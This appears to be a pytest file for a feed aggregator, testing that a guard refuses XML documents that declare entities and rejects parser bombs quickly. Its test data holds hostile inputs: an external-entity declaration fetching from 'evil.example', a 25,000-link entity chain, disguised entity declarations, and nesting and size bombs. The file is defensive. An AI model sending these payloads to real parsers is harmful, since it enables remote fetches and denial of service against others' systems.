"""What is refused before a parser sees it, and that bombs end fast."""

import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aggregator.model import Failure, FailureKind, failure
from aggregator.parse import guard
from tests.documents import entry, feed, reading, refused, rss

ENTITY = '<!ENTITY a "b">'
BODY = "<rss version='2.0'><channel><title>&a;</title></channel></rss>"


def chain(length: int) -> str:
    """Entities that name each other: a parser of 2.5.0 calls itself once for each."""
    links = "".join(f'<!ENTITY k{number} "&k{number - 1};">' for number in range(1, length))
    return f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY k0 "y">{links}]>{BODY}'


@pytest.mark.parametrize(
    "document",
    [
        f"<!DOCTYPE rss [{ENTITY}]>{BODY}",
        f'<?xml version="1.0"?>\n<!DOCTYPE rss [\n{ENTITY}\n]>\n{BODY}',
        f"<!-- <rss> --><!DOCTYPE rss [{ENTITY}]>{BODY}",
        f"<?php <rss> ?><!DOCTYPE rss [{ENTITY}]>{BODY}",
        f'<!DOCTYPE rss SYSTEM "<x>" [{ENTITY}]>{BODY}',
        f"<!DOCTYPE rss [<!ATTLIST rss x CDATA '<x>'>{ENTITY}]>{BODY}",
        f"<!DOCTYPE rss [<!-- ' --><?x \" ?>{ENTITY}]>{BODY}",
        f"<!DOCTYPE rss [<!EN&#0;TITY a 'b'>]>{BODY}",
        f"<!DOCTYPE rss [<!EN\x00TITY a 'b'>]>{BODY}",
        f"<!DOCTYPE rss [<!ENTITY % p SYSTEM 'http://evil.example/x'>%p;]>{BODY}",
        f'junk <?xml version="1.0"?><!DOCTYPE rss [{ENTITY}]>{BODY}',
        f"<!DOCTYPE rss [{'<!-- </item> -->' * 3000}{ENTITY}]>{BODY}",
        chain(25_000),
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-be", "utf-32"])
def test_declared_entities_are_refused_however_they_are_written(document: str, encoding: str) -> None:
    assert refused(document.encode(encoding)) == failure(FailureKind.ENTITIES)


@pytest.mark.parametrize(
    "item",
    [
        f"<description><![CDATA[<!DOCTYPE x [{ENTITY}]>]]></description>",
        f"<!-- {ENTITY} --><description>x</description>",
        '<description>&lt;!ENTITY a "b"&gt;</description>',
    ],
)
def test_a_post_that_quotes_an_entity_is_read(item: str) -> None:
    assert len(feed(rss(item)).entries) == 1


def test_a_doctype_without_entities_is_legal_and_its_letters_are_kept() -> None:
    doctype = (
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/x.dtd">'
    )
    found = feed(rss("<description>caf&eacute; &amp;eacute; &LT; &nope;</description>", prolog=doctype))

    assert found.format == "rss091n"
    assert found.entries[0].content == "café &eacute; &LT; &nope;"


def test_what_servers_print_before_the_document_is_skipped() -> None:
    warning = "<br />\n<b>Warning</b>: Undefined index in /x.php on line 3<br />\n"

    assert feed(warning + rss("<title>x</title>")).entries[0].title == "x"
    assert feed("stray\n" + rss("<title>x</title>", prolog="")).entries[0].title == "x"


def test_references_to_characters_that_xml_has_not_are_left_out() -> None:
    found = entry(rss("<title>a&#0;b&#x8;c&#xD800;d&#x110000;e&#99999999999999;f &#233;&#x1F600;</title>"))

    assert found.title.startswith("abcde")
    assert found.title.endswith("é😀")


BOMBS = {
    "attributes of one element": rss("<x " + " ".join(f'a{n}="1"' for n in range(20_000)) + "/>"),
    "attributes after a sign in a value": rss(
        "<x z='>' " + " ".join(f'a{n}=">"' for n in range(20_000)) + "/>"
    ),
    "elements within each other": rss("<a>" * 100_000 + "</a>" * 100_000),
    "elements within each other, with others between": rss("<a><b></b>" * 50_000),
    "three million elements": rss("<a/>" * 3_000_000),
    "links of one entry": rss("<link>x</link>" * 800_000),
    "namespaces": rss("".join(f"<x:y xmlns:x='u{number}'/>" for number in range(200_000))),
    "objects": '{"version": "https://jsonfeed.org/version/1.1", "x": [' + "{}," * 4_000_000 + "{}]}",
}


@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS.keys())
def test_bombs_are_refused_at_once(bomb: str) -> None:
    started = time.process_time()

    assert refused(bomb).kind is FailureKind.MALFORMED
    assert time.process_time() - started < 2


HEAVY = {
    "comments begun in a description": rss("<description>" + "&lt;!--" * 100_000 + "</description>"),
    "comments begun raw": rss("<description>" + "<!--" * 100_000 + "</description>"),
    "nested divs": rss("<description>" + "&lt;div&gt;" * 100_000 + "</description>"),
    "one comment of 15 MB": rss("<!--" + "x" * 15_000_000 + "-->"),
    "one text of 15 MB": rss("<description>" + "x" * 15_000_000 + "</description>"),
    "one quoted text of 15 MB": rss("<description><![CDATA[" + "<p>x</p>" * 1_900_000 + "]]></description>"),
    "60,000 entries": rss(*["<title>x</title>"] * 60_000),
    "half-open tags": rss("<description>" + "</" * 50_000 + "</description>"),
}


@pytest.mark.slow
@pytest.mark.parametrize("document", HEAVY.values(), ids=HEAVY.keys())
def test_heavy_documents_are_read_within_the_workers_time(document: str) -> None:
    started = time.process_time()

    assert not (isinstance(result := reading(document).result, Failure) and result.kind is FailureKind.BUG)
    assert time.process_time() - started < 10


def test_of_a_text_without_end_the_beginning_is_kept_and_what_follows_it() -> None:
    long = "x" * 5_000_000
    read = feed(
        rss(
            f"<title>{long}</title><guid>1</guid>",
            f"<description><![CDATA[<b>{long}</b>]]></description><guid>2</guid>",
            f"<!-- {long} --><guid>3</guid>",
        )
    )

    assert [each.guid for each in read.entries] == ["1", "2", "3"]
    assert read.entries[0].title.startswith("xxx")
    assert read.entries[1].content.startswith("xxx")


@pytest.mark.parametrize(
    "piece", ["<", "<!--", "<![CDATA[", "</", "&#", "<a ", "<a x='", '"', "<?", "<title>", "</item>"]
)
def test_the_guard_takes_a_time_linear_in_what_it_reads(piece: str) -> None:
    times = []
    for length in (200_000, 400_000):
        document = "<rss>" + piece * (length // len(piece))
        started = time.process_time()
        guard.admit(document)
        times.append(time.process_time() - started)

    assert times[1] < 4 * times[0] + 0.2


@given(
    st.lists(
        st.sampled_from(
            ["<rss>", "<!ENTITY", "<!DOCTYPE x [", "]>", "'", '"', "<!--", "-->", "<?", "?>", " "]
        )
    )
)
def test_no_entity_is_let_through_that_stands_before_all_else(pieces: list[str]) -> None:
    admitted = guard.admit("<!DOCTYPE r [<!ENTITY a 'b'>" + "".join(pieces) + "<rss>")

    assert isinstance(admitted, Failure)


def test_the_sample_of_a_chain_never_reaches_the_parser(
    testdata: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from aggregator.parse import feed as reader

    monkeypatch.delattr(reader, "parse")

    assert (
        refused((testdata / "hostile/feeds/sample-entity-chain.xml").read_bytes()).kind
        is FailureKind.ENTITIES
    )
